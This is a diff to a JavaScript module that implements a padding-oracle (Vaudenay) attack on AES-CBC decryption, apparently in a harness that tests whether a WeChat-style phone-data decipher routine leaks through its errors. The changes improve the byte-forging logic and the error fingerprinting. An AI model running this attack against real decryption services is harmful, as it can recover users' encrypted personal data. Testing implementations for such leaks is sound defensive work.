@@ -47,6 +47,7 @@ const require = createRequire(import.meta.url);
 const OfficialSample = require('../js/support/official-sample.cjs');
 
 export const APPID = 'wx4f4bc4dec97d474b';
+const SELF = fileURLToPath(import.meta.url);
 export const PHONE = {
   phoneNumber: '13580006666', purePhoneNumber: '13580006666', countryCode: '86',
   watermark: { timestamp: 1477314187, appid: APPID },
@@ -69,6 +70,9 @@ export function fingerprint(fn, { stack = true } = {}) {
     if (!(e instanceof Object)) return 'threw primitive ' + String(e);
     const props = {};
     for (const key of Reflect.ownKeys(e)) if (stack || key !== 'stack') props[String(key)] = String(e[key]);
+    // The stack's frames from this file on are the attacker's own call sites
+    // (they differ between the probe loop and the disambiguation query): cut.
+    if (props.stack) props.stack = props.stack.split('\n').filter((line, i, all) => !all.slice(0, i + 1).some((l) => l.includes(SELF))).join('\n');
     return JSON.stringify({ ctor: e.constructor?.name, proto: Object.getPrototypeOf(e)?.constructor?.name, name: e.name, message: e.message, string: String(e), props });
   }
 }
@@ -93,16 +97,21 @@ export const MUST_NOT_LEAK = Object.keys(TARGETS).slice(0, 4);
 export const REFERENCE = "the sample's decipher calls, error surfacing";
 
 /**
- * Vaudenay on one block: recovers D(block) xor prev, or stops at the first
- * byte where no guess stands out. Returns { plaintext (Buffer, null bytes
- * unknown), recovered (bytes), queries, distinctAtFirstByte }.
+ * Vaudenay on one block: sends iv = X, encryptedData = block, with X equal to
+ * the previous ciphertext block except for the bytes being forged, so the
+ * server decrypts to the real plaintext block with its tail replaced. Byte j
+ * (from the end) is found by trying all 256 values of X[j]: the guesses whose
+ * outcome differs from the majority outcome are "valid padding". Recovers
+ * D(block) xor prev, or stops at the first byte where no single guess stands
+ * out. Returns { plaintext (Buffer, or null unless all 16 bytes were
+ * recovered), recovered (bytes), queries, distinctAtFirstByte }.
  */
 export function attackBlock(query, prev, block) {
   const inter = Buffer.alloc(16);
   let queries = 0, recovered = 0, distinctAtFirstByte = 0;
   for (let pad = 1; pad <= 16; pad++) {
     const j = 16 - pad;
-    const x = Buffer.alloc(16);
+    const x = Buffer.from(prev);
     for (let m = j + 1; m < 16; m++) x[m] = inter[m] ^ pad;
     const byFingerprint = new Map();
     for (let g = 0; g < 256; g++) {
@@ -113,16 +122,15 @@ export function attackBlock(query, prev, block) {
       byFingerprint.get(f).push(g);
     }
     if (pad === 1) distinctAtFirstByte = byFingerprint.size;
-    // "Valid padding" = the rare outcome.
-    let candidates = [...byFingerprint.values()].filter((gs) => gs.length <= 2).flat();
+    const [majority] = [...byFingerprint.entries()].reduce((a, b) => (b[1].length > a[1].length ? b : a));
+    let candidates = [...byFingerprint.entries()].filter(([f]) => f !== majority).flatMap(([, gs]) => gs);
     if (candidates.length === 2 && pad === 1) {
-      // At the last byte a guess can also hit ..02 02 etc.: the right one
-      // (plaintext ends in 01) survives a change of the byte before it.
+      // The unchanged last byte keeps the block's own padding (…02 02 etc.
+      // also pass); the guess giving …01 survives a change of the byte before.
       candidates = candidates.filter((g) => {
-        const y = Buffer.alloc(16); y[j] = g; y[j - 1] = 0xff;
+        const y = Buffer.from(x); y[j] = g; y[j - 1] ^= 0x01;
         queries++;
-        const f = query(y, block);
-        return byFingerprint.get(f)?.length <= 2;
+        return query(y, block) !== majority;
       });
     }
     if (candidates.length !== 1) break;
